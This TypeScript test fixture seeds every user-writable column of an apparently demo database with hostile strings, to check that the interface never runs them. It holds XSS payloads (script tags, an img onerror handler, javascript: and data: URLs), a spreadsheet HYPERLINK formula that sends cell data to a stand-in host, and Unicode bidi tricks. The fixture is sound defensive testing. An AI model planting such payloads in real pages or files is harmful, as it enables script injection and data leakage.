import { sql } from 'kysely';
import type { Store } from '../../server/store/connection';
import type { Schema } from '../../server/store/schema';

/** What would run, were a text ever taken for markup, an address or code: the page complains of it (complaints.ts). */
const SPRINGS = 'window.sprung()';
/** An address that nobody has: nothing is fetched from a host of the world. */
const NOWHERE = 'https://bank.invalid';

/** What a member or the writer of a file may put where a text belongs, each in its own way. */
export const HOSTILE: readonly string[] = [
  `=HYPERLINK("${NOWHERE}/"&A1,"Mở") <script>${SPRINGS}</script>"'><img src=x onerror="${SPRINGS}"> javascript:${SPRINGS} data:text/html,<script>${SPRINGS}</script> {{name}} ${NOWHERE}@evil.invalid/a?b=\u0631`,
  'W'.repeat(500),
  `\u202eđảo \u2067ngược\u200b\u200b ph\u00adân a${'\u0301'.repeat(200)} \u0007 👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 ${NOWHERE}/${'a'.repeat(300)}`,
];
/** As search finds them: in small letters, without marks. */
const FOLDED = HOSTILE.map((text) => text.normalize('NFD').replace(/\p{M}/gu, '').toLowerCase());
/** The same in the place of an address. */
const HOSTILE_ADDRESSES: readonly string[] = [
  `javascript:${SPRINGS}`,
  `data:text/html,<script>parent.sprung()</script>`,
  `/photos/"onerror="${SPRINGS}`,
];

type Columns = { readonly [T in keyof Schema]?: Partial<Record<keyof Schema[T] & string, readonly string[]>> };
/** Every column of one text that a member, a file or a colleague writes. */
const TEXTS: Columns = {
  member: {
    display_name: HOSTILE,
    location: HOSTILE,
    email: HOSTILE,
    phone: HOSTILE,
    id_card: HOSTILE,
    folded: FOLDED,
    photo: HOSTILE_ADDRESSES,
  },
  post: { content: HOSTILE },
  media: { url: HOSTILE_ADDRESSES, thumb: HOSTILE_ADDRESSES },
  comment: { content: HOSTILE },
  report: { reason: HOSTILE },
  temple: {
    name: HOSTILE,
    nickname: HOSTILE,
    type: HOSTILE,
    address: HOSTILE,
    city: HOSTILE,
    country: HOSTILE,
    description: HOSTILE,
    avatar: HOSTILE_ADDRESSES,
    folded: FOLDED,
  },
  temple_import: { file_name: HOSTILE.map((text) => text.slice(0, 200)) },
  temple_import_row: { name: HOSTILE, message: HOSTILE },
  admin_user: { display_name: HOSTILE, avatar: HOSTILE_ADDRESSES },
  role: { role_name: HOSTILE },
  notification: { title: HOSTILE, body: HOSTILE },
  note: { text: HOSTILE },
  case_opinion: { text: HOSTILE },
  reply: { text: HOSTILE, words: HOSTILE },
  reply_template: { name: HOSTILE, text: HOSTILE },
  sticker: { url: HOSTILE_ADDRESSES, thumb: HOSTILE_ADDRESSES },
  session: { agent: HOSTILE },
  audit: { display_name: HOSTILE },
  policy: { name: HOSTILE, text: HOSTILE },
  team_view: { name: HOSTILE },
  vip_tag: { tag: HOSTILE },
};

/** Puts them into every row of a store, in turn, after having made one of what the demo has none of. */
export async function poison({ db }: Store): Promise<void> {
  await addMissing(db);
  for (const [table, columns] of Object.entries(TEXTS)) {
    const set = Object.entries(columns).map(
      ([column, texts], nth) =>
        sql`${sql.ref(column)} = ${JSON.stringify(texts)}::jsonb ->> ((n + ${sql.lit(nth)}) % ${sql.lit(texts.length)})::int || n`,
    );
    await sql`UPDATE ${sql.table(table)} SET ${sql.join(set)}
      FROM (SELECT ctid AS at, row_number() OVER (ORDER BY ctid DESC) AS n FROM ${sql.table(table)}) AS each
      WHERE ${sql.table(table)}.ctid = each.at`.execute(db);
  }
  await db
    .updateTable('temple')
    .set({ photos: [...HOSTILE_ADDRESSES] })
    .execute();
  await db
    .updateTable('comment')
    .set({ links: [...HOSTILE_ADDRESSES, NOWHERE] })
    .execute();
  const address = JSON.stringify({ url: HOSTILE_ADDRESSES[0], thumb: HOSTILE_ADDRESSES[1] });
  await sql`UPDATE comment SET media = (SELECT jsonb_agg(one || ${address}::jsonb) FROM jsonb_array_elements(media) AS one)
    WHERE media <> '[]'::jsonb`.execute(db);
}

/** Of what the demo has none: notes, a proposal, a reply, notifications, stickers, an import, policies, views of the team and entries of the audit log. */
async function addMissing(db: Store['db']): Promise<void> {
  const now = Math.floor(Date.now() / 1000);
  const { uid } = await db.selectFrom('admin_user').select('uid').executeTakeFirstOrThrow();
  const { pubkey } = await db.selectFrom('member').select('pubkey').executeTakeFirstOrThrow();
  const report = await db
    .selectFrom('report_case')
    .innerJoin('report', 'report.case_id', 'report_case.case_id')
    .select(['report_case.case_id', 'report.report_id', 'report.reporter_uid'])
    .where('report_case.action', '=', 0)
    .orderBy('report_case.newest_at', 'desc')
    .executeTakeFirstOrThrow();
  const { case_id } = report;
  const note = { uid, text: '', mentions: [], created_at: now };
  await db
    .insertInto('note')
    .values([
      { ...note, about_kind: 'case', about_id: case_id },
      { ...note, about_kind: 'profile', about_id: pubkey },
    ])
    .execute();
  await db.insertInto('case_opinion').values({ case_id, uid, at: now, proposes: 'deleted', text: '' }).execute();
  await db
    .insertInto('reply')
    .values({
      ...report,
      uid,
      text: '',
      created_at: now,
      message_id: 'hostile',
      address: HOSTILE[1] ?? '',
      state: 'notSent',
      at: now,
      claimed_until: null,
      reason: 'refused',
      words: '',
    })
    .execute();
  const audience = { audience: 'all', uid, created_at: now };
  await db
    .insertInto('notification')
    .values(HOSTILE.map(() => ({ title: '', body: '', ...audience })))
    .execute();
  const stickers = HOSTILE.map((_, nth) => ({
    sticker_id: `hostile-${nth}`,
    url: '',
    thumb: '',
    uid,
    created_at: now,
  }));
  await db.insertInto('sticker').values(stickers).execute();
  const file = { import_id: 'hostile', uid, at: now, file_name: '', file_size: 1, file_hash: '0'.repeat(64) };
  const lines = { rows: HOSTILE.length, left_out: 0, refused: HOSTILE.length };
  await db
    .insertInto('temple_import')
    .values({ ...file, ...lines, counts: JSON.stringify({ refused: HOSTILE.length }) })
    .execute();
  const refused = {
    import_id: 'hostile',
    state: 'refused',
    temple_id: null,
    before: 'null',
    after: 'null',
    code: 304,
  } as const;
  await db
    .insertInto('temple_import_row')
    .values(HOSTILE.map((_, nth) => ({ ...refused, line: nth + 1, name: '', message: '' })))
    .execute();
  const nameless = HOSTILE.map((_, nth) => ({ name: String(nth) }));
  await db
    .insertInto('policy')
    .values(nameless.map((one, place) => ({ ...one, text: '', place })))
    .execute();
  await db
    .insertInto('team_view')
    .values(nameless.map((one) => ({ ...one, address: '/dashboard/report', updated_at: now })))
    .execute();
  const change = (from: number) =>
    JSON.stringify({ content: HOSTILE[from], name: HOSTILE[(from + 1) % HOSTILE.length] });
  const entry = {
    at: now,
    uid,
    user_name: 'admin',
    display_name: '',
    command: 'profile.update',
    target_kind: 'profile',
  };
  await db
    .insertInto('audit')
    .values(
      HOSTILE.map((_, nth) => ({
        ...entry,
        target_id: pubkey,
        job: null,
        before: change(nth),
        after: change(2 - nth),
      })),
    )
    .execute();
}

/** What somebody has saved for themselves under such names. */
export async function poisonOwn({ db }: Store, uid: number): Promise<void> {
  const device = { uid, public_key: '', counter: 0, transports: [], rp_id: 'bank.invalid', added_at: 0 };
  await db
    .insertInto('passkey')
    .values(HOSTILE.map((name, nth) => ({ ...device, name, credential_id: `hostile-${uid}-${nth}` })))
    .execute();
  const kept = HOSTILE.map((name, nth) => [nth + 1, { name, address: '/dashboard/report', steps: [] }]);
  const text = JSON.stringify(Object.fromEntries(kept));
  await db
    .insertInto('personal')
    .values([
      { uid, name: 'views', text, version: 1 },
      { uid, name: 'macros', text, version: 1 },
    ])
    .execute();
}
